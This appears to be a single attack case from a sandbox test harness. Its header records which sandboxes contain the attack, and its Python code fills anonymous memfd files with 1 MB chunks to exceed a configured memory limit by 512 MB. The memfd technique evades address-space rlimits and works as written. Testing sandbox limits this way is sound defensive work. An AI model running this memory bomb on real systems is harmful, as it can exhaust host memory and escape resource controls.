# /// attack
# tries = "keeps memory in files without a name (memfd), which no limit on addresses counts"
# zygote = ["ok"]
# bwrap = ["ok"]
# docker = ["ok", "limit"]
# rlimit = "not covered"
# control = "breach"
# ///
goal = bait["policy"]["memory_bytes"] + (512 << 20)
CHUNK = bytes(1 << 20)
total = 0
with contextlib.suppress(OSError):
    while total < goal:
        held = os.memfd_create("bomb")
        with contextlib.suppress(OSError):
            while total < goal:
                total += os.write(held, CHUNK)
if total >= goal:
    breach(f"took {goal >> 20} MB")
